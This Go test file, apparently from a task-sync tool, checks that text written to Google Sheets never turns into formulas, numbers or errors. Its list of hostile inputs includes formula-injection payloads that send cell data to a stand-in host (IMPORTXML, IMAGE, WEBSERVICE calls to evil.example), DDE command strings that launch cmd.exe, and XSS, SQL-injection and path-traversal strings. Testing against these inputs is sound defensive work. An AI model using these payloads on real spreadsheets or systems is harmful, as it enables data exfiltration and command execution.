package gsheets

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"google.golang.org/api/sheets/v4"

	"github.com/lockstep-sync/lockstep/connectors/cells"
	"github.com/lockstep-sync/lockstep/sync/task"
)

// hostile are texts that a spreadsheet would run, or take for something else, if they were typed into it. There are more than 200.
func hostile() []string {
	texts := []string{
		// Formulas.
		`=1+1`, `=A1`, `=IMPORTXML("https://evil.example/?"&A1,"//x")`, `=IMPORTDATA("https://evil.example")`, `=IMPORTHTML("https://evil.example","table",1)`,
		`=IMPORTRANGE("1AbC","A1")`, `=IMPORTFEED("https://evil.example")`, `=IMAGE("https://evil.example/"&B2)`, `=HYPERLINK("https://evil.example","Click")`,
		`=WEBSERVICE("https://evil.example")`, `=cmd|' /C calc'!A0`, `=DDE("cmd","/C calc","x")`, `=MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!''`,
		`=GOOGLEFINANCE("GOOG")`, `=QUERY(A1:Z,"select *")`, `=ARRAYFORMULA(ROW(A:A))`, `={1,2;3,4}`, `=SUM(`, `=`, `==`, `= 1`, `=-1`, `=+1`, `=@A1`, `="x"`, `='x'`,
		`=LAMBDA(x,x)(1)`, `=GOOGLETRANSLATE("x")`, `=INDIRECT("A1")`, `=NOW()`, `=RAND()`, `=#REF!`, `=TRUE`, `=AI("x")`,
		`+1`, `+1+1`, `+A1`, `+cmd|' /C calc'!A0`, `+HYPERLINK("https://evil.example")`, `+`, `+"x"`,
		`-1`, `-1+1`, `-A1`, `-cmd|' /C calc'!A0`, `-`, `- item`, `--`, `−1`,
		`@x`, `@SUM(1,1)`, `@`, `@amina`, `@"x"`,
		`|x`, `%0A=1+1`, `;=1+1`, `,=1+1`, `"=1+1"`, `(=1+1)`, `&=1`, `!=1`,
		// What stands before a formula without being seen, and what looks like its beginning.
		"\t=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2060=1+1", "\u00ad=1+1", "\x00=1+1", "\x1b=1+1", "\v=1+1",
		"＝1+1", "＋1", "－1", "＠x", "＝IMPORTXML(\"x\")", "﹦1+1", "₌1", "⁼1", "꞊1", "＇=1+1", "‘=1+1", "’=1+1", "`=1+1",
		"a\n=1+1", "a\t=1+1", "a\r=1+1", "line\n\n=cmd|'/C calc'!A0", "x;=1+1\n+1\n-1\n@x",
		// Apostrophes, which are eaten from what is typed.
		`'`, `''`, `'''`, `'=1+1`, `''=1+1`, `'x`, `'1`, `'TRUE`, `'  x`, `'2026-01-01`, `x'`, `'"`, `"`, `""`, `"x"`,
		// Numbers, days, times, truth and errors.
		`0`, `1`, `007`, `1e9`, `1E-7`, `1,234.5`, `1.234,5`, `50%`, `$5`, `€ 5`, `£5`, `1/2`, `3-4`, `1:30`, `12:00`, `24:00:00`, `1/2/2026`, `12/03/2026`, `2026-03-12`, `12.03.26`,
		`12 March`, `March 2026`, `Jan-26`, `2026`, `1 000`, `0x10`, `1_000`, `٣`, `½`, `∞`, `NaN`, `Infinity`, `-0`, `00:00`, `1.0`, `1.`, `.5`, `5e`, `9007199254740993`,
		`123456789012345678901234567890`, `+254 700 000000`, `+1-202-555-0101`, `(5)`, `TRUE`, `true`, `FALSE`, `VRAI`, `wahr`, `yes`, `null`, `undefined`, `N/A`,
		`#REF!`, `#N/A`, `#VALUE!`, `#DIV/0!`, `#NAME?`, `#ERROR!`, `#NULL!`, `#`, `~`, `~abc`, `CW-1`, `Lockstep ID`,
		// Texts of other languages of the web, links, and what breaks quoting.
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<b>x</b>`, `&lt;`, `&#61;1+1`, `javascript:alert(1)`, `https://evil.example`, `mailto:a@b.example`, `[x](javascript:alert(1))`,
		`{{7*7}}`, `${7*7}`, `%s%n`, `\`, `\n`, `\u003d1+1`, `'; DROP TABLE tasks; --`, `../../etc/passwd`, "a\u202eb", "👩‍👩‍👧‍👦", "é\u0301", "ﷺ", "\U0001F1F0\U0001F1EA", "x\u0000y",
	}
	for _, formula := range []string{`=IMPORTXML("https://evil.example","//x")`, `+1`, `-1`, `@x`, `TRUE`, `1/2`} {
		for _, before := range []string{"'", "''", " ", "\t", "\n", "\u200b", "x"} {
			texts = append(texts, before+formula+"#")
		}
	}
	return texts
}

// hostilePaths are the ways on which a text comes into a spreadsheet: each gets them all, and returns where they stand, as A1, by
// what was written there. What else writes into sheets belongs here too.
func hostilePaths() map[string]func(b *book, texts []string) map[string]string {
	fields := []task.Field{task.Title, task.Notes, task.Assignee, task.Labels, task.Workstream}
	values := func(i int, s string) task.Values {
		var v task.Values
		v[task.Title], v[task.Notes], v[task.Workstream] = task.TextValue(s), task.TextValue(s), task.TextValue(s)
		if v[task.Title].IsEmpty() {
			v[task.Title] = task.TextValue(fmt.Sprintf("row %d", i))
		}
		v[task.Assignee], v[task.Labels] = task.PersonValue(s), task.SetValue(strings.NewReplacer(",", "", ";", "", "\n", " ", "\r", " ").Replace(s))
		return v
	}
	cols := columns("title", "Action", "notes", "Notes", "assignee", "Who", "labels", "Tags", "workstream", "Area")
	const header = "Action|Notes|Who|Tags|Area"
	where := func(b *book, first, i int, v task.Values, at map[string]string) {
		for k, f := range fields {
			shown, _ := b.c.Normalize(f, v[f], task.Value{})
			at[columnName(k)+rowNumber(first+i)] = shown.Display()
		}
	}
	return map[string]func(b *book, texts []string) map[string]string{
		"new rows": func(b *book, texts []string) map[string]string {
			b.add(strings.Split(header, "|")...)
			b.connectTo(cols)
			at, patches := map[string]string{}, []task.Patch(nil)
			for i, s := range texts {
				v := values(i, s)
				patches = append(patches, creating(cw(i+1), v))
				where(b, 1, i, v, at)
			}
			b.landed(patches...)
			return at
		},
		"fields of rows that are there, each in its own way": func(b *book, texts []string) map[string]string {
			b.add(strings.Split(header, "|")...)
			for range texts {
				b.add("Pump", "old", "Old", "old", "old")
			}
			b.connectTo(cols)
			at, patches := map[string]string{}, []task.Patch(nil)
			for i, r := range b.adopt().Records {
				v := values(i, texts[i])
				p := task.Patch{Op: task.Update, Task: r.Marker, Ref: r.Ref}
				for _, f := range fields {
					p.Set = append(p.Set, task.Change{Field: f, From: r.Values[f], To: v[f]})
				}
				patches = append(patches, p)
				where(b, 1, i, v, at)
			}
			b.landed(patches...)
			return at
		},
		"over cells that were formatted as numbers, days and percentages": func(b *book, texts []string) map[string]string {
			b.add(strings.Split(header, "|")...)
			for range texts {
				b.add("Pump", "73%", "14/07/2031", "17:31", "€7.77")
			}
			b.connectTo(cols)
			at, patches := map[string]string{}, []task.Patch(nil)
			for i, r := range b.adopt().Records {
				v := values(i, texts[i])
				p := task.Patch{Op: task.Update, Task: r.Marker, Ref: r.Ref}
				for _, f := range fields {
					p.Set = append(p.Set, task.Change{Field: f, From: r.Values[f], To: v[f]})
				}
				patches = append(patches, p)
				where(b, 1, i, v, at)
			}
			b.landed(patches...)
			return at
		},
		"rows that are adopted, and changed with it": func(b *book, texts []string) map[string]string {
			b.add(strings.Split(header, "|")...)
			for range texts {
				b.add("Pump", "old", "Old", "old", "old")
			}
			b.connectTo(cols)
			at, patches := map[string]string{}, []task.Patch(nil)
			for i, r := range b.pull().Records {
				v := values(i, texts[i])
				p := task.Patch{Op: task.Adopt, Task: cw(i + 1), Ref: r.Ref, Expect: r.Values}
				for _, f := range fields {
					p.Set = append(p.Set, task.Change{Field: f, From: r.Values[f], To: v[f]})
				}
				patches = append(patches, p)
				where(b, 1, i, v, at)
			}
			b.landed(patches...)
			return at
		},
		"partners, by the names that the configuration gives them": func(b *book, texts []string) map[string]string {
			cfg := Config{Scorecard: true, Fields: []task.Field{task.Title, task.Partner}}
			seen := map[string]bool{}
			at, patches := map[string]string{}, []task.Patch(nil)
			for i, s := range texts {
				name := task.TextValue(printable(s)).String()
				if name == "" || seen[cells.FoldName(name)] || strings.ContainsAny(name, "\n\t") {
					continue
				}
				seen[cells.FoldName(name)] = true
				id := fmt.Sprintf("p%d", i)
				cfg.Partners = append(cfg.Partners, Partner{ID: id, Name: name})
				var v task.Values
				v[task.Title], v[task.Partner] = task.TextValue("row"), task.EnumValue(id)
				at["B"+rowNumber(1+len(patches))] = name
				patches = append(patches, creating(cw(len(patches)+1), v))
			}
			b.connectTo(cfg)
			b.pull()
			b.landed(patches...)
			return at
		},
	}
}

// typedNumbers are 73%, 14/07/2031, 17:31 and €7.77.
func typedNumbers() []float64 { return []float64{0.73, 48043, float64(17*60+31) / (24 * 60), 7.77} }

// connectTo connects the tab anew, with another mapping.
func (b *book) connectTo(cfg Config) {
	b.Helper()
	cfg.Spreadsheet, cfg.Tab = b.id, tab
	b.connect(cfg)
}

// TestNoTextBecomesAFormula writes hostile texts on every path that leads into a spreadsheet, and reads exactly these texts back: as
// text, and in no cell of the file is there a formula, a number, a day, a truth or an error that nobody put there.
func TestNoTextBecomesAFormula(t *testing.T) {
	t.Parallel()
	texts := hostile()
	if len(texts) < 200 {
		t.Fatalf("only %d texts", len(texts))
	}
	for _, locale := range []string{"en_GB", "fr_FR"} {
		for name, write := range hostilePaths() {
			if locale != "en_GB" && !strings.HasPrefix(name, "over cells") {
				continue // what a text is taken for does not hang on the locale where nothing is there yet
			}
			t.Run(locale+"/"+name, func(t *testing.T) {
				t.Parallel()
				b := open(t, columns("title", "Action"))
				b.must(b.srv.SetProperties(b.id, locale, ""))
				at := write(b, texts)
				if len(at) < 150 {
					t.Fatalf("only %d cells were written", len(at))
				}
				for a1, want := range at {
					if want == "" {
						b.is(a1, nil)
					} else {
						b.is(a1, want)
					}
				}
				b.onlyTexts()
				// Read by us they are what was written, and nothing is left to be written.
				for _, r := range b.pull().Records {
					for f, why := range r.Problems {
						t.Errorf("%s of %s: %+v", f, r.Name, why)
					}
				}
			})
		}
	}
	t.Run("headers", func(t *testing.T) {
		t.Parallel()
		headersAreTexts(t, texts)
	})
}

// headersAreTexts has the scorecard's columns headed by all the texts, ten at a time.
func headersAreTexts(t *testing.T, texts []string) {
	t.Helper()
	fields := []task.Field{
		task.Notes, task.Status, task.Due, task.Start, task.Priority, task.Progress, task.Assignee, task.Workstream, task.Labels, task.QuickWin,
	}
	columns, seen, headed := map[string]string{}, map[string]bool{cells.FoldHeader(idHeader): true, "title": true}, 0
	flush := func() {
		if len(columns) == 0 {
			return
		}
		b := open(t, Config{Scorecard: true, Fields: append([]task.Field{task.Title}, fields...), Columns: columns})
		b.pull()
		b.landed(creating("CW-1", task.Values{task.Title: task.TextValue("Pump")}))
		b.onlyTexts()
		if snap := b.pull(); len(snap.Held) > 0 || len(snap.Records) != 1 {
			t.Errorf("headed %q the columns are not found again: %+v", columns, snap.Held)
		}
		for f, want := range columns {
			if !slices.Contains(keysOf(b.srv.Rows(b.id, tab)[0]), task.TextValue(want).String()) {
				t.Errorf("no column is headed %q, for %s", want, f)
			}
		}
		columns = map[string]string{}
	}
	for _, s := range texts {
		first, _, _ := strings.Cut(task.TextValue(printable(s)).String(), "\n")
		fold, whole := cells.FoldHeader(first), cells.FoldHeader(s)
		if fold == "" || seen[fold] || seen[whole] || s != printable(s) {
			continue // no header can be so, or another is
		}
		seen[fold], seen[whole] = true, true
		columns[fields[len(columns)].String()] = s
		if headed++; len(columns) == len(fields) {
			flush()
		}
	}
	flush()
	if headed < 180 {
		t.Errorf("only %d headers", headed)
	}
}

// onlyTexts fails the test where a cell of the file holds anything but a text; in other tabs than ours the numbers may be copied that
// people typed into ours.
func (b *book) onlyTexts() {
	b.Helper()
	all, err := b.c.svc.Spreadsheets.Get(b.id).IncludeGridData(true).Context(b.Context()).Do()
	b.must(err)
	n := 0
	for _, sh := range all.Sheets {
		for _, data := range sh.Data {
			for r, row := range data.RowData {
				for c, x := range row.Values {
					if x.UserEnteredValue == nil {
						continue
					}
					n++
					if v := x.UserEnteredValue; sh.Properties.Title != tab && v.NumberValue != nil && slices.Contains(typedNumbers(), *v.NumberValue) {
						continue
					}
					if v := x.UserEnteredValue; v.StringValue == nil || v.FormulaValue != nil || x.EffectiveValue == nil || x.EffectiveValue.StringValue == nil ||
						*x.EffectiveValue.StringValue != *v.StringValue {
						b.Errorf("%s of %s holds %s", a1(r+1, c+1), sh.Properties.Title, contentOf(v))
					}
				}
			}
		}
	}
	if n == 0 {
		b.Error("the file is empty: this proves nothing")
	}
}

func contentOf(v *sheets.ExtendedValue) string {
	switch {
	case v.FormulaValue != nil:
		return "the formula " + *v.FormulaValue
	case v.NumberValue != nil:
		return fmt.Sprint("the number ", *v.NumberValue)
	case v.BoolValue != nil:
		return fmt.Sprint("the truth ", *v.BoolValue)
	case v.ErrorValue != nil:
		return "the error " + v.ErrorValue.Type
	}
	return "a text"
}
